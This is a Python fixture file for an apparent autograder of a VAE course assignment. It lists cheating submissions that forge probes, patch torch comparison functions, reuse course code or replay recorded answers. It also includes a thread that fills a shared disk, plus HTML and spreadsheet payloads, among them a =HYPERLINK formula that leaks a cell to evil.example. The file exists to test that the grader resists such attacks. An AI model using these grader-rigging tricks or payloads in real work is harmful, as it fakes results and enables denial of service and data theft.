          "the checks read (and the described layers' shapes with made-up outputs)",
          edits(_unwritten_model("ConvVAE", FORGED_MODEL_PROBES.lstrip()), _unwritten_model("VAE")),
          sabotages=("ConvVAE", "VAE")),
    # Trusted measurements (issue 21): reparameterize, interpolate and sample_images are stubs, and a class body
    # replaces their probes in the worker with ones that report what the checks once read there (tensor facts,
    # TinyVAE's call records, gradients) but no real answer: every verdict must rest on what the grader recomputes.
    Entry("probes_forged", "stubs for reparameterize, interpolate and sample_images; a class body replaces their "
          "probes in PROBES with ones reporting the facts, call records and gradients the checks wanted, unscaled "
          "noise for z and no real frames or samples",
          edits(Edit("reparameterize", "def reparameterize(", FORGED_PROBES + "def reparameterize("),
                *STUBS),
          sabotages=("reparameterize", "interpolate", "sample_images")),
    Entry("vae_loss_borrowed", "vae_loss returns the course code's beta-VAE loss at beta = 1 (or its KL helper "
          "plus BCE): public code doing the part",
          edits(Edit("vae_loss", """    bce = F.binary_cross_entropy(recon_x, x, reduction="sum")
    kl = -0.5 * torch.sum(1 + logvar - mu.pow(2) - logvar.exp())
    return bce + kl""", """    from vae_course import beta_sweep, comparison
    try:
        return beta_sweep.beta_vae_loss(1.0)(recon_x, x, mu, logvar)
    except TypeError:
        return F.binary_cross_entropy(recon_x, x, reduction="sum") + comparison.kl_to_prior(mu, logvar).sum()""")),
          sabotages=("vae_loss",)),
    # Torch, nn.Module.__call__ and the lent objects replaced in the worker (issue 21): every comparison is the
    # grader's, made with its own torch on what the student's functions returned.
    Entry("torch_rigged_by_decorator", "wrong reparameterize, vae_loss, ConvVAE, VAE, train_epoch, interpolate and "
          "sample_images; a decorator on them replaces torch.allclose, isclose, equal, testing.assert_close, "
          "math.isclose, Tensor.__sub__, torch.exp and F.binary_cross_entropy in the worker, and Tensor.backward so "
          "that logvar gets the gradient of a correct sample",
          edits(Edit("reparameterize", "def reparameterize(", RIGGED_TORCH + "def reparameterize("),
                *_wrong("reparameterize", "vae_loss", "ConvVAE", "VAE", "train_epoch", "interpolate", "sample_images",
                        decorator="@_rigged")),
          sabotages=("reparameterize", "vae_loss", "ConvVAE", "VAE", "train_epoch", "interpolate", "sample_images")),
    Entry("lent_objects_rigged_in_class_body", "wrong ConvVAE, VAE, train_epoch, interpolate and sample_images; a "
          "class body replaces nn.Module.__call__ (a VAE returns its input), TinyVAE's decode and train, the worker's "
          "invert_decoder, and the loop harness's weights, EpochWatch.epoch, stand-in objective and BatchReader",
          edits(Edit("ConvVAE", "class ConvVAE(", RIGGED_LENT_OBJECTS + "class ConvVAE("),
                *_wrong("ConvVAE", "VAE", "train_epoch", "interpolate", "sample_images")),
          sabotages=("ConvVAE", "VAE", "train_epoch", "interpolate", "sample_images")),
    # The recorded answers of the public checks returned (issue 21): the grader grades under inputs of its own.
    Entry("recorded_answers_returned", "ConvVAE and VAE not written, train_epoch wrong; class bodies replace their probes in "
          "the worker with ones answering the public checks' published inputs with the recorded values the bundle "
          "ships (ConvVAE's default-size decoder, the small VAE's sigmoid output, three correct epochs); vae_loss "
          "answers the public checks' hand-worked tensors and nothing else",
          edits(_unwritten_model("ConvVAE", _recorded_model_answers("ConvVAE")),
                _unwritten_model("VAE", _recorded_model_answers("VAE")),
                Edit("train_epoch", "def train_epoch(", RECORDED_EPOCHS), *_wrong("train_epoch"), HAND_WORKED_LOSS),
          sabotages=("vae_loss", "ConvVAE", "VAE", "train_epoch")),
]


# --- submissions graded on a small disk of their own (tests/corpus/test_resources.py), never in ENTRIES ---------

# A class body (it runs when the definitions load) starts a thread that fills the working directory with small
# files until the disk is full, and keeps it full: on a shared disk, the neighbours' gradings and the batch's ledger
# fail. Every part must score 0 (the submission ends), the neighbours keep full marks.
DISK_FILLER = Edit("vae_loss", "def vae_loss(", dedent("""\
    class _Filler:
        import os as _os, threading as _threading, time as _time

        def _fill(os=_os, time=_time):
            number = 0
            while True:
                try:
                    with open(f"fill-{number}", "wb") as handle:
                        handle.write(b"x")
                    number += 1
                except OSError:
                    time.sleep(0.001)  # full: try again, to keep it full

        _threading.Thread(target=_fill, daemon=True).start()


    def vae_loss("""))

# What a spreadsheet would run and a Markdown viewer would show as HTML and links, in an exception's message.
INERT_PAYLOAD = ('[grades](javascript:alert(1)) <img src="http://track.example/p.gif"> <script>alert(1)</script> '
                 '`code` =HYPERLINK("http://evil.example/?leak="&A1)')
FORMULA_FOLDER = '=HYPERLINK("http:\u2215\u2215evil.example","x")'  # a folder name cannot hold "/"


def formula_and_html() -> Edit:
    """``vae_loss`` raises with ``INERT_PAYLOAD`` as its message (the part scores 0)."""
    return sabotage("vae_loss", f"raise ValueError({INERT_PAYLOAD!r})")
